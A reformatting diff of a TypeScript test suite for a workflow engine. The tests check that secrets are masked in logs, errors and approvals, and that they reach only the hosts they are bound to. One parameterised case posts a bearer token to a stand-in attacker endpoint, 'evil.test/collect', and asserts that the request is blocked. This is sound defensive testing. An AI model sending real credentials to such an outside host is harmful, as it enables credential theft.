@@ -9,11 +9,28 @@ import { openEngine, type TestEngine } from "#/tests/support/engine.ts";
 
 const TOKEN = 'tk/live+9f"é 81^x=';
 const PASSWORD = "pa55-w0rd";
-const SECRETS: Readonly<Record<string, string>> = { TOKEN, PASSWORD, HOOK: "https://hooks.test/services/T0/B0/xyz", USER: "bob", UNBOUND: "un-8ound-value", NARROW: "narr0w-value" };
+const SECRETS: Readonly<Record<string, string>> = {
+  TOKEN,
+  PASSWORD,
+  HOOK: "https://hooks.test/services/T0/B0/xyz",
+  USER: "bob",
+  UNBOUND: "un-8ound-value",
+  NARROW: "narr0w-value",
+};
 /** Of those that are not bound to both of the servers here. */
-const HOSTS: Readonly<Record<string, readonly string[] | null>> = { UNBOUND: null, NARROW: ["api.test:8443", "*.wide.test"] };
+const HOSTS: Readonly<Record<string, readonly string[] | null>> = {
+  UNBOUND: null,
+  NARROW: ["api.test:8443", "*.wide.test"],
+};
 /** However it is written down. */
-const forms = (value: string) => [value, encodeURIComponent(value), JSON.stringify(value).slice(1, -1), Buffer.from(value).toString("base64"), Buffer.from(value).toString("hex"), new URLSearchParams({ v: value }).toString().slice(2)];
+const forms = (value: string) => [
+  value,
+  encodeURIComponent(value),
+  JSON.stringify(value).slice(1, -1),
+  Buffer.from(value).toString("base64"),
+  Buffer.from(value).toString("hex"),
+  new URLSearchParams({ v: value }).toString().slice(2),
+];
 const BASIC = Buffer.from(`u:${PASSWORD}`).toString("base64");
 const TRACES = [...[TOKEN, PASSWORD, "T0/B0/xyz"].flatMap(forms), BASIC];
 
@@ -22,31 +39,43 @@ const graph = (steps: Record<string, unknown>, rest: Record<string, unknown> = {
   name: "secretive",
   kind: "graph",
   steps,
-  edges: ["start", ...Object.keys(steps)].map((from, index) => ({ from, to: Object.keys(steps)[index] ?? "end" })),
+  edges: ["start", ...Object.keys(steps)].map((from, index) => ({
+    from,
+    to: Object.keys(steps)[index] ?? "end",
+  })),
   ...rest,
 });
 const call = {
   type: "http",
   method: "POST",
   url: "https://api.test/{{ secrets.TOKEN }}/items",
-  headers: { authorization: "Bearer {{ secrets.TOKEN }}", "x-basic": "Basic {{ bytes('u:' + secrets.PASSWORD).base64() }}" },
+  headers: {
+    authorization: "Bearer {{ secrets.TOKEN }}",
+    "x-basic": "Basic {{ bytes('u:' + secrets.PASSWORD).base64() }}",
+  },
   query: { key: "{{ secrets.TOKEN }}" },
   body: { password: "{{ secrets.PASSWORD }}", list: ["{{ secrets.TOKEN }}!"] },
 };
 
-const bearerOf = ({ headers }: OutboundRequest) => headers?.["authorization"]?.slice("Bearer ".length) ?? "nobody";
+const bearerOf = ({ headers }: OutboundRequest) =>
+  headers?.["authorization"]?.slice("Bearer ".length) ?? "nobody";
 
 /** Says back all that it was sent, in every place where a server might. */
 const echo = (request: OutboundRequest, status = 200): OutboundResponse => ({
   url: request.url,
   status,
   headers: { "content-type": "application/json", "x-echo": request.headers?.["authorization"] ?? "" },
-  body: JSON.stringify({ ...request, signal: undefined, [bearerOf(request)]: Buffer.from(bearerOf(request)).toString("base64") }),
+  body: JSON.stringify({
+    ...request,
+    signal: undefined,
+    [bearerOf(request)]: Buffer.from(bearerOf(request)).toString("base64"),
+  }),
 });
 
 describeOnEachEngine("a secret", (kind) => {
   let engine: TestEngine;
-  let serve: (request: OutboundRequest, call: number) => OutboundResponse | Error = (request) => echo(request);
+  let serve: (request: OutboundRequest, call: number) => OutboundResponse | Error = (request) =>
+    echo(request);
   let sent: OutboundRequest[] = [];
   let asked: string[][] = [];
   const told: unknown[] = [];
@@ -56,7 +85,17 @@ describeOnEachEngine("a secret", (kind) => {
       ports: {
         secrets: async (names) => {
           asked.push([...names]);
-          return names.flatMap((name) => (name in SECRETS ? [{ name, hosts: name in HOSTS ? (HOSTS[name] ?? null) : ["api.test", "hooks.test", "tool.test"], open: () => SECRETS[name] ?? "" }] : []));
+          return names.flatMap((name) =>
+            name in SECRETS
+              ? [
+                  {
+                    name,
+                    hosts: name in HOSTS ? (HOSTS[name] ?? null) : ["api.test", "hooks.test", "tool.test"],
+                    open: () => SECRETS[name] ?? "",
+                  },
+                ]
+              : [],
+          );
         },
         fetch: async (request) => {
           sent.push(request);
@@ -68,7 +107,9 @@ describeOnEachEngine("a secret", (kind) => {
     });
     vi.spyOn(engine.runner.live, "show").mockImplementation((...shown) => void told.push(shown));
     vi.spyOn(engine.runner.observe, "stepFailed").mockImplementation((...failed) => void told.push(failed));
-    vi.spyOn(engine.runner.observe, "superstepCommitted").mockImplementation((...committed) => void told.push(committed));
+    vi.spyOn(engine.runner.observe, "superstepCommitted").mockImplementation(
+      (...committed) => void told.push(committed),
+    );
   });
   beforeEach(() => {
     serve = (request) => echo(request);
@@ -85,19 +126,34 @@ describeOnEachEngine("a secret", (kind) => {
 
   /** Every table in which something of a value stands, and every report of the engine. */
   async function leaks(): Promise<readonly string[]> {
-    const tables = await engine.owner("select format('%I.%I', schemaname, tablename) as name from pg_tables where schemaname in ('public', 'storage')");
+    const tables = await engine.owner(
+      "select format('%I.%I', schemaname, tablename) as name from pg_tables where schemaname in ('public', 'storage')",
+    );
     const found = await Promise.all(
       tables.map(async ({ name }) => {
         const rows = await engine.owner(`select t::text as row from ${String(name)} t`);
-        return rows.flatMap(({ row }) => tracesIn(String(row).replaceAll('""', '"').replaceAll("\\\\", "\\"))).map((trace) => `${String(name)}: ${trace}`);
+        return rows
+          .flatMap(({ row }) => tracesIn(String(row).replaceAll('""', '"').replaceAll("\\\\", "\\")))
+          .map((trace) => `${String(name)}: ${trace}`);
       }),
     );
-    return [...found.flat(), ...tracesIn(inspect(told, { depth: 20, maxStringLength: null, maxArrayLength: null, showHidden: true })).map((trace) => `told: ${trace}`)];
+    return [
+      ...found.flat(),
+      ...tracesIn(
+        inspect(told, { depth: 20, maxStringLength: null, maxArrayLength: null, showHidden: true }),
+      ).map((trace) => `told: ${trace}`),
+    ];
   }
   const tracesIn = (text: string) => TRACES.filter((trace) => text.includes(trace));
-  const approvalOf = async (runId: string) => (await engine.rows("approvals", runId)).find((row) => row["status"] === "open");
+  const approvalOf = async (runId: string) =>
+    (await engine.rows("approvals", runId)).find((row) => row["status"] === "open");
   async function decide(runId: string, action: string, values?: unknown) {
-    await storeDecision(engine.tenant, runId, { approvalId: String((await approvalOf(runId))?.["id"]), action, values, by: { kind: "person", id: "ada" } });
+    await storeDecision(engine.tenant, runId, {
+      approvalId: String((await approvalOf(runId))?.["id"]),
+      action,
+      values,
+      by: { kind: "person", id: "ada" },
+    });
     await engine.deliver(runId);
   }
 
@@ -108,18 +164,29 @@ describeOnEachEngine("a secret", (kind) => {
     expect(url.searchParams.get("key")).toBe(TOKEN);
     expect(sent).toMatchObject([
       {
-        headers: { "authorization": `Bearer ${TOKEN}`, "x-basic": `Basic ${BASIC}` },
+        headers: { authorization: `Bearer ${TOKEN}`, "x-basic": `Basic ${BASIC}` },
         body: JSON.stringify({ list: [`${TOKEN}!`], password: PASSWORD }),
         staysAtOrigin: true,
       },
     ]);
     expect(asked).toEqual([["TOKEN", "PASSWORD"]]);
-    expect((await engine.rows("side_effects", runId))[0]).toMatchObject({ target: "POST https://api.test/•••TOKEN/items?key=•••TOKEN", request: { body: '{"list":["•••TOKEN!"],"password":"•••PASSWORD"}' } });
+    expect((await engine.rows("side_effects", runId))[0]).toMatchObject({
+      target: "POST https://api.test/•••TOKEN/items?key=•••TOKEN",
+      request: { body: '{"list":["•••TOKEN!"],"password":"•••PASSWORD"}' },
+    });
     expect(JSON.stringify((await engine.run(runId))["output"])).toContain("Bearer •••TOKEN");
     expect(await leaks()).toEqual([]);
   });
 
-  const sending = (url: string, secret: string) => graph({ call: { type: "http", method: "POST", url, headers: { authorization: `Bearer {{ secrets.${secret} }}` } } });
+  const sending = (url: string, secret: string) =>
+    graph({
+      call: {
+        type: "http",
+        method: "POST",
+        url,
+        headers: { authorization: `Bearer {{ secrets.${secret} }}` },
+      },
+    });
 
   test.each([
     ["another host", "https://evil.test/collect", "NARROW", "secret-elsewhere"],
@@ -131,26 +198,41 @@ describeOnEachEngine("a secret", (kind) => {
   ])("is not sent to %s, and no write is in doubt", async (_what, url, secret, code) => {
     const runId = await start(sending(url, secret), { host: "evil.test" });
     expect(sent).toEqual([]);
-    expect(await engine.run(runId)).toMatchObject({ status: "failed", error: { step: "call", code, message: expect.stringMatching(/admin/) as string } });
+    expect(await engine.run(runId)).toMatchObject({
+      status: "failed",
+      error: { step: "call", code, message: expect.stringMatching(/admin/) as string },
+    });
     expect(await engine.rows("approvals", runId)).toEqual([]);
     expect(await leaks()).toEqual([]);
   });
 
   test("is sent to the hosts it is bound to", async () => {
-    for (const url of ["https://api.test:8443/", "https://a.b.wide.test/x"]) await start(sending(url, "NARROW"));
+    for (const url of ["https://api.test:8443/", "https://a.b.wide.test/x"])
+      await start(sending(url, "NARROW"));
     expect(sent.map(({ url }) => url)).toEqual(["https://api.test:8443/", "https://a.b.wide.test/x"]);
   });
 
   test("is not given to a tool that sends elsewhere: not to the search, whose words go to the model of embeddings", async () => {
-    const runId = await start(graph({ call: { type: "tool", tool: "knowledge_search", input: { query: "about {{ secrets.TOKEN }}" } } }));
+    const runId = await start(
+      graph({
+        call: { type: "tool", tool: "knowledge_search", input: { query: "about {{ secrets.TOKEN }}" } },
+      }),
+    );
     expect(await engine.run(runId)).toMatchObject({ status: "failed", error: { code: "secret-elsewhere" } });
   });
 
   test("is in no error, whether the target refuses, repeats it at the cut, or cannot be reached", async () => {
     serve = (request) => ({ ...echo(request, 400), body: `${"x".repeat(295)}${TOKEN}` });
     const refused = await start(graph({ call }));
-    expect((await engine.run(refused))["error"]).toMatchObject({ code: "http-400", message: expect.stringContaining("POST https://api.test/•••TOKEN/items") as string });
-    serve = (request) => Object.assign(new Error(`connect ECONNREFUSED ${request.url}`, { cause: new Error(PASSWORD) }), { code: "ECONNREFUSED", request });
+    expect((await engine.run(refused))["error"]).toMatchObject({
+      code: "http-400",
+      message: expect.stringContaining("POST https://api.test/•••TOKEN/items") as string,
+    });
+    serve = (request) =>
+      Object.assign(new Error(`connect ECONNREFUSED ${request.url}`, { cause: new Error(PASSWORD) }), {
+        code: "ECONNREFUSED",
+        request,
+      });
     const unreachable = await start(graph({ call: { ...call, retry: { attempts: 1 } } }));
     expect((await engine.run(unreachable))["error"]).toMatchObject({ code: "http-unreachable" });
     const wrong = await start(graph({ call: { ...call, url: "{{ secrets.PASSWORD }}" } }));
@@ -160,17 +242,36 @@ describeOnEachEngine("a secret", (kind) => {
   });
 
   test("is in no question to a person about a write that was left without an answer", async () => {
-    serve = (_request, count) => (count === 1 ? Object.assign(new Error(`socket hang up ${TOKEN}`), { code: "ECONNRESET" }) : echo(_request));
+    serve = (_request, count) =>
+      count === 1
+        ? Object.assign(new Error(`socket hang up ${TOKEN}`), { code: "ECONNRESET" })
+        : echo(_request);
     const runId = await start(graph({ call }));
-    expect(await approvalOf(runId)).toMatchObject({ subject: "side_effect", title: expect.stringContaining("•••TOKEN") as string });
+    expect(await approvalOf(runId)).toMatchObject({
+      subject: "side_effect",
+      title: expect.stringContaining("•••TOKEN") as string,
+    });
     await decide(runId, "retry");
     expect(await engine.run(runId)).toMatchObject({ status: "succeeded" });
-    expect(sent.map(({ headers }) => headers?.["authorization"])).toEqual([`Bearer ${TOKEN}`, `Bearer ${TOKEN}`]);
+    expect(sent.map(({ headers }) => headers?.["authorization"])).toEqual([
+      `Bearer ${TOKEN}`,
+      `Bearer ${TOKEN}`,
+    ]);
     expect(await leaks()).toEqual([]);
   });
 
   test("may be a whole address, and less than a whole text", async () => {
-    const runId = await start(graph({ hook: { type: "http", method: "POST", url: "{{ secrets.HOOK }}", body: { user: "{{ secrets.USER + '@' + input.host }}" } } }), { host: "a.test" });
+    const runId = await start(
+      graph({
+        hook: {
+          type: "http",
+          method: "POST",
+          url: "{{ secrets.HOOK }}",
+          body: { user: "{{ secrets.USER + '@' + input.host }}" },
+        },
+      }),
+      { host: "a.test" },
+    );
     expect(sent).toMatchObject([{ url: SECRETS["HOOK"], body: '{"user":"bob@a.test"}' }]);
     expect((await engine.rows("side_effects", runId))[0]).toMatchObject({ target: "POST •••HOOK" });
     expect(await leaks()).toEqual([]);
@@ -178,24 +279,44 @@ describeOnEachEngine("a secret", (kind) => {
 
   test("that is not there fails the step before anything is sent, and says where to set it", async () => {
     const runId = await start(graph({ call: { ...call, headers: { "x-key": "{{ secrets.NOBODY }}" } } }));
-    expect((await engine.run(runId))["error"]).toMatchObject({ code: "secret-missing", step: "call", message: expect.stringMatching(/“NOBODY”.*Settings.*PUT \/api\/v1\/secrets\/NOBODY/) as string });
+    expect((await engine.run(runId))["error"]).toMatchObject({
+      code: "secret-missing",
+      step: "call",
+      message: expect.stringMatching(/“NOBODY”.*Settings.*PUT \/api\/v1\/secrets\/NOBODY/) as string,
+    });
     expect(sent).toEqual([]);
   });
 
   test("is not read for steps that name none", async () => {
-    await start(graph({ plain: { type: "http", url: "https://api.test/" }, note: { type: "set", values: { text: "no secrets here" } } }));
+    await start(
+      graph({
+        plain: { type: "http", url: "https://api.test/" },
+        note: { type: "set", values: { text: "no secrets here" } },
+      }),
+    );
     expect(asked).toEqual([]);
     expect(sent[0]).not.toHaveProperty("staysAtOrigin");
   });
 
   test("is not sent again by a retry or a fork that takes the result over", async () => {
-    const definition = graph({ call, gate: { type: "http", url: "https://api.test/gate", retry: { attempts: 1 } } });
+    const definition = graph({
+      call,
+      gate: { type: "http", url: "https://api.test/gate", retry: { attempts: 1 } },
+    });
     serve = (request) => (request.url.endsWith("/gate") ? echo(request, 400) : echo(request));
     const origin = await start(definition);
     expect(await engine.run(origin)).toMatchObject({ status: "failed" });
     serve = (request) => echo(request);
     const fork = async (superstep: number | null) => {
-      const forked = await insertFork(engine.tenant, { id: randomUUID(), origin, superstep, fresh: false, state: {}, reuses: true, trigger: { kind: "manual" } });
+      const forked = await insertFork(engine.tenant, {
+        id: randomUUID(),
+        origin,
+        superstep,
+        fresh: false,
+        state: {},
+        reuses: true,
+        trigger: { kind: "manual" },
+      });
       if (!("runId" in forked)) throw new Error(JSON.stringify(forked));
       await engine.deliver(forked.runId);
       return forked.runId;
@@ -208,7 +329,17 @@ describeOnEachEngine("a secret", (kind) => {
   });
 
   test("serves a tool, also when a person has edited the arguments around it", async () => {
-    const tool = { type: "tool", tool: "http_request", input: { url: "https://tool.test/{{ input.n }}", method: "POST", headers: { "x-key": "{{ secrets.TOKEN }}" }, body: { note: "as it was" } }, toolPolicy: { http_request: "approve" } };
+    const tool = {
+      type: "tool",
+      tool: "http_request",
+      input: {
+        url: "https://tool.test/{{ input.n }}",
+        method: "POST",
+        headers: { "x-key": "{{ secrets.TOKEN }}" },
+        body: { note: "as it was" },
+      },
+      toolPolicy: { http_request: "approve" },
+    };
     const approved = await start(graph({ tool }), { n: 1 });
     expect(await approvalOf(approved)).toMatchObject({ shown: { headers: { "x-key": "•••TOKEN" } } });
     await decide(approved, "approve");
@@ -217,7 +348,12 @@ describeOnEachEngine("a secret", (kind) => {
     await decide(edited, "edit", { arguments: { ...(shown as object), body: { note: "edited" } } });
     expect(await engine.run(edited)).toMatchObject({ status: "succeeded" });
     expect(sent).toMatchObject([
-      { url: "https://tool.test/1", headers: { "x-key": TOKEN }, body: '{"note":"as it was"}', staysAtOrigin: true },
+      {
+        url: "https://tool.test/1",
+        headers: { "x-key": TOKEN },
+        body: '{"note":"as it was"}',
+        staysAtOrigin: true,
+      },
       { url: "https://tool.test/2", headers: { "x-key": TOKEN }, body: '{"note":"edited"}' },
     ]);
     expect(await leaks()).toEqual([]);
@@ -226,10 +362,27 @@ describeOnEachEngine("a secret", (kind) => {
   test("serves every item of a map, in this run and in runs of their own", async () => {
     const one = { ...call, url: "https://api.test/{{ item }}", query: {} };
     const narrow = await start(graph({ each: { type: "map", items: "{{ [1, 2] }}", do: one } }));
-    const wide = await start(graph({ each: { type: "map", items: "{{ [1, 2, 3] }}", do: { steps: { one }, edges: [{ from: "start", to: "one" }, { from: "one", to: "end" }], output: "{{ state.one.status }}" } } }));
+    const wide = await start(
+      graph({
+        each: {
+          type: "map",
+          items: "{{ [1, 2, 3] }}",
+          do: {
+            steps: { one },
+            edges: [
+              { from: "start", to: "one" },
+              { from: "one", to: "end" },
+            ],
+            output: "{{ state.one.status }}",
+          },
+        },
+      }),
+    );
     expect(await engine.run(narrow)).toMatchObject({ status: "succeeded" });
     expect(await engine.run(wide)).toMatchObject({ status: "succeeded", output: { each: [200, 200, 200] } });
-    expect(sent.map(({ headers }) => headers?.["authorization"])).toEqual(Array.from({ length: 5 }, () => `Bearer ${TOKEN}`));
+    expect(sent.map(({ headers }) => headers?.["authorization"])).toEqual(
+      Array.from({ length: 5 }, () => `Bearer ${TOKEN}`),
+    );
     expect(await leaks()).toEqual([]);
   });
 });
